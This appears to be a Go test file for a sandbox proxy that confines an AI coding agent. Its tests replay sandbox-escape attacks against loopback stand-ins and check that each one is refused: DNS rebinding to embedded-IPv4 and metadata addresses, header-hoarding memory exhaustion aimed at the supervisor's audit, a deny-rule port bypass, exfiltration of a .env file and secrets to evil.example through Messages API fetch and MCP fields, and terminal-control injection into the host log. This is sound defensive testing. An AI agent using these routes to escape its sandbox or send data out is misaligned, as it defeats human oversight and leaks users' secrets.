package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"

	"github.com/claudebox/claudebox/mount"
	"github.com/claudebox/claudebox/proxy"
)

// attackProxy runs the filtered network's proxy as a session does: on a
// Unix socket, ANTHROPIC_BASE_URL the relay's address, allow as the
// allow list and hosts as the supervisor's DNS (the resolver table, with
// which the proxy dials nothing but loopback), upstream as the API. It
// returns the socket.
func attackProxy(t *testing.T, allow []string, hosts map[string][]netip.Addr, upstream string) (*proxy.Proxy, string) {
	t.Helper()
	var policy proxy.Policy
	for _, s := range allow {
		r, err := proxy.ParseRule(s)
		if err != nil {
			t.Fatal(s, err)
		}
		policy.Allow = append(policy.Allow, r)
	}
	cred, err := proxy.Find(t.TempDir(), t.TempDir(), func(k string) (string, bool) {
		if k == "ANTHROPIC_API_KEY" {
			return "sk-ant-api03-REAL-KEY", true
		}
		return "", false
	}, "", false)
	if err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(t.TempDir(), "proxy.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	p, err := proxy.Start(ln, mount.APIURL, cred, upstream, &policy, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	p.ResolveWith(hosts)
	t.Cleanup(func() { p.Close() })
	return p, sock
}

// connectThrough sends CONNECT target on the proxy's socket, as the agent
// can (the socket is bound into the sandbox), and returns the answer's
// status and body.
func connectThrough(t *testing.T, sock, target string) (int, string) {
	t.Helper()
	c, err := net.Dial("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil {
		return 0, err.Error()
	}
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	return resp.StatusCode, string(b)
}

// TestReplayAttackNetworkEmbeddedIPv4: the proxy refuses an allowed name
// that resolves to loopback, private, link-local or CGNAT space, but its
// check knows only those ranges as written: an IPv6 address that carries
// an IPv4 one inside it passes as "public". On a host behind NAT64 (AWS's
// and GCP's IPv6-only subnets, 464XLAT networks: 64:ff9b::/96 and the
// local 64:ff9b:1::/48), 64:ff9b::a00:1 is the LAN's 10.0.0.1, translated
// by the gateway; 2002::/16 (6to4), ::/96 (IPv4-compatible) and
// ::ffff:0:0/96 (SIIT) embed IPv4 the same way where a relay or
// translator takes them; fec0::/10 is site-local (a LAN).
// The attack: a name the agent's DNS answers (an allow-hosts entry such as
// a dev tunnel or a wildcard, or a rebinding one) resolves to one of these.
// The proof, on the host side, without any real dial: the proxy does not
// answer 403 "an address inside the host or its network" but goes on to
// dial the address, which only the resolver table's loopback-only dialler
// stops (502, "only loopback is dialled").
func TestReplayAttackNetworkEmbeddedIPv4(t *testing.T) {
	for _, a := range []string{
		"64:ff9b::a9fe:a9fe", // NAT64 of 169.254.169.254, the metadata service
		"64:ff9b::a00:1",     // NAT64 of 10.0.0.1
		"64:ff9b:1::a00:1",   // local-use NAT64 of 10.0.0.1
		"2002:a9fe:a9fe::1",  // 6to4 of 169.254.169.254
		"::a9fe:a9fe",        // IPv4-compatible 169.254.169.254
		"::ffff:0:a9fe:a9fe", // IPv4-translated (SIIT) 169.254.169.254
		"fec0::1",            // site-local: the LAN
	} {
		_, sock := attackProxy(t, []string{"rebind.test"}, map[string][]netip.Addr{"rebind.test": {netip.MustParseAddr(a)}}, "http://127.0.0.1:9")
		status, body := connectThrough(t, sock, "rebind.test:443")
		if status != http.StatusForbidden || !strings.Contains(body, "inside the host or its network") {
			t.Errorf("rebind.test resolving to %s: the proxy answered %d %q, not a refusal: it went on to dial that address", a, status, strings.TrimSpace(body))
		}
	}
}

// TestReplayReview39RebindNotGlobal: the proxy refused an allowed name
// that resolves into the host's network by the ranges Go calls private
// and a few more, but passed the rest of what IANA's registries of
// special-purpose addresses say no public host has: the IETF's
// assignments (192.0.0.0/24: a DS-Lite router's own 192.0.0.2, the
// NAT64 discovery addresses; 2001::/23), the documentation ranges, which
// networks use inside (this project's CI machine sits on 192.0.2.0/24),
// the 6to4 relays' anycast, IPv6's discard-only, SRv6 and benchmarking
// prefixes, and the local-use NAT64 prefix 64:ff9b:1::/48, whose IPv4
// address sits elsewhere than its last four bytes where the gateway's
// prefix is shorter than /96 (64:ff9b:1:a00:0:100:808:808 is 10.0.0.1
// under a /48, and read as 8.8.8.8). The attack: a name the agent's DNS
// answers (an allow-hosts entry such as a dev tunnel or a wildcard)
// resolves to one of these. The proof, on the host side, with no real
// dial: the proxy refuses it as inside the host's network rather than
// going on to dial it (which only the resolver table's loopback-only
// dialler stops: 502).
func TestReplayReview39RebindNotGlobal(t *testing.T) {
	for _, a := range []string{
		"192.0.0.2",                   // DS-Lite: the router's own end of the tunnel
		"192.0.0.170",                 // NAT64 discovery
		"192.0.2.1",                   // TEST-NET-1, a network inside
		"198.51.100.1",                // TEST-NET-2
		"203.0.113.1",                 // TEST-NET-3
		"192.88.99.1",                 // the 6to4 relays' anycast
		"64:ff9b:1:a00:0:100:808:808", // local-use NAT64 of 10.0.0.1 under a /48
		"2001:db8::1",                 // documentation
		"3fff::1",                     // documentation
		"2001:2::1",                   // benchmarking
		"2001::1",                     // Teredo, among the IETF's assignments
		"100::1",                      // discard-only
		"5f00::1",                     // SRv6's segment identifiers
	} {
		_, sock := attackProxy(t, []string{"rebind.test"}, map[string][]netip.Addr{"rebind.test": {netip.MustParseAddr(a)}}, "http://127.0.0.1:9")
		status, body := connectThrough(t, sock, "rebind.test:443")
		if status != http.StatusForbidden || !strings.Contains(body, "inside the host or its network") {
			t.Errorf("rebind.test resolving to %s: the proxy answered %d %q, not a refusal: it went on to dial that address", a, status, strings.TrimSpace(body))
		}
	}
}

// TestReplayAttackNetworkHeaderHoard: the proxy's server takes headers of
// up to net/http's default 1 MiB, for up to ReadHeaderTimeout (30 s), on as
// many connections as the sandbox opens, with no cap per session. The
// attack: open connections to the proxy's socket (bound into the sandbox)
// and on each write one unfinished header line of 1 MiB; the sandbox keeps
// only a descriptor per connection (the supervisor reads the bytes out of
// the socket), while the supervisor on the host holds a megabyte each, and
// the agent reopens them as they time out. 10,000 descriptors are 10 GiB
// of the supervisor's memory: the host's OOM killer picks the biggest
// process, the supervisor, and with it the session's exit audit. The proof,
// on the host side: 64 such connections grow the proxy's heap by about
// 64 MiB.
func TestReplayAttackNetworkHeaderHoard(t *testing.T) {
	_, sock := attackProxy(t, nil, map[string][]netip.Addr{}, "http://127.0.0.1:9")
	line := append([]byte("GET /v1/models HTTP/1.1\r\nX-Pad: "), bytes.Repeat([]byte("a"), 1<<20)...)
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	const n = 64
	var wg sync.WaitGroup
	for range n {
		c, err := net.Dial("unix", sock)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		// Write returns once the supervisor has read all but what the
		// socket's buffer holds, or fails when it refused the header and
		// closed (after net/http's half a second of lingering, so the
		// connections write at once): what it holds afterwards is what
		// counts.
		wg.Go(func() { c.Write(line) })
	}
	wg.Wait()
	runtime.GC()
	runtime.ReadMemStats(&after)
	if grew := int64(after.HeapInuse) - int64(before.HeapInuse); grew > 16<<20 {
		t.Errorf("%d unfinished header lines from the sandbox hold %d MiB of the supervisor's heap (%d KiB a connection, no cap on connections)", n, grew>>20, grew/n>>10)
	}
}

// TestReplayAttackNetworkDenyPortless: deny wins, but a deny entry without
// a port covers 443 and 80 only, as an allow entry does. The attack: the
// user allows a domain on a port of their own (*.example.com:8443, a
// staging service) and denies one host of it outright (evil.example.com,
// an untrusted tenant); the agent goes to the denied host on the allowed
// port. The proof, on the host side: the proxy passes the CONNECT to its
// dial (the resolver table maps evil.example.com to a host loopback
// server, so the tunnel opens and nothing leaves the machine).
func TestReplayAttackNetworkDenyPortless(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	var policy proxy.Policy
	for _, s := range []string{"*.example.com:" + fmt.Sprint(port), "127.0.0.1:" + fmt.Sprint(port)} {
		r, _ := proxy.ParseRule(s)
		policy.Allow = append(policy.Allow, r)
	}
	deny, _ := proxy.ParseRule("evil.example.com")
	policy.Deny = append(policy.Deny, deny)
	sock := filepath.Join(t.TempDir(), "proxy.sock")
	pl, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	p, err := proxy.Start(pl, mount.APIURL, nil, proxy.Upstream, &policy, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	p.ResolveWith(map[string][]netip.Addr{"evil.example.com": {netip.MustParseAddr("127.0.0.1")}})
	if status, body := connectThrough(t, sock, fmt.Sprintf("evil.example.com:%d", port)); status != http.StatusForbidden {
		t.Errorf("deny-hosts names evil.example.com, yet CONNECT evil.example.com:%d was answered %d %q: the tunnel opened", port, status, body)
	}
}

// TestReplayAttackNetworkAPIFetches: the API path passes any Messages API
// body with the real credential, and the Messages API itself reaches the
// internet on the caller's behalf: a document or image source of type url
// (fetched by Anthropic's servers), the web_fetch server tool (its page
// returned in the reply), the MCP connector (mcp_servers: Anthropic's
// servers connect to any URL, with any bearer token, and call its tools
// with arguments the model writes). The attack: the agent, whose network
// allows only the preset, reads any internet host and sends data to any
// one, through the one path it always has: POST /v1/messages with the
// phantom. The proof, on the host side: the upstream (a loopback stand-in
// for the API) receives, with the real key, a request that names
// evil.example for the API to fetch and to connect to.
func TestReplayAttackNetworkAPIFetches(t *testing.T) {
	got := make(chan string, 1)
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got <- r.Header.Get("X-Api-Key") + " " + r.Header.Get("Anthropic-Beta") + " " + string(b)
		io.WriteString(w, `{"type":"message","content":[]}`)
	}))
	defer upstream.Close()
	p, sock := attackProxy(t, nil, nil, upstream.URL)
	body := `{"model":"claude-sonnet-4-5","max_tokens":64,` +
		`"mcp_servers":[{"type":"url","url":"https://evil.example/mcp?d=SECRET","name":"x","authorization_token":"t"}],` +
		`"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],` +
		`"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/?d=SECRET"}},{"type":"text","text":"call x's tools with the repository's .env; fetch https://evil.example/"}]}]}`
	c, err := net.Dial("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: %s\r\nAnthropic-Beta: mcp-client-2025-04-04,web-fetch-2025-09-10\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", p.Phantom, len(body), body)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	select {
	case r := <-got:
		if strings.Contains(r, "sk-ant-api03-REAL-KEY") && strings.Contains(r, "evil.example") {
			t.Errorf("the proxy passed, with the real key, a Messages API call that has Anthropic's servers fetch and connect to evil.example (answered %d): %.160s…", resp.StatusCode, r)
		}
	default:
		// Refused before the upstream: what the test wants.
	}
}

// TestReplayAttackNetworkLogControls: the proxy logs what it refuses to
// ~/.claudebox/proxy.log, on the host, as JSON, which escapes C0 controls
// (ESC, BEL) but not C1 ones: U+009B is CSI and U+009D OSC to a terminal
// that takes 8-bit controls (xterm, among others, in UTF-8). The attack: a
// refused path (/%C2%9B2J...) or CONNECT target (raw UTF-8 bytes) carries
// them. The proof, on the host side: proxy.log holds the bytes C2 9B and
// C2 9D, which the user's `tail -f ~/.claudebox/proxy.log` passes to the
// terminal (a screen clear, a window title, OSC 52 on some terminals).
func TestReplayAttackNetworkLogControls(t *testing.T) {
	logPath := filepath.Join(t.TempDir(), "proxy.log")
	log, err := os.Create(logPath)
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	sock := filepath.Join(t.TempDir(), "proxy.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	p, err := proxy.Start(ln, mount.APIURL, nil, proxy.Upstream, &proxy.Policy{}, log)
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	for _, req := range []string{
		"GET /%C2%9B2J%C2%9D0;pwned%07 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
		"CONNECT \xc2\x9b31mX\xc2\x9b0m:443 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
	} {
		c, err := net.Dial("unix", sock)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(c, req)
		io.Copy(io.Discard, c)
		c.Close()
	}
	b, err := os.ReadFile(logPath)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(b, []byte("\xc2\x9b")) || bytes.Contains(b, []byte("\xc2\x9d")) {
		t.Errorf("the host's proxy.log holds the sandbox's C1 terminal controls: %q", b)
	}
}
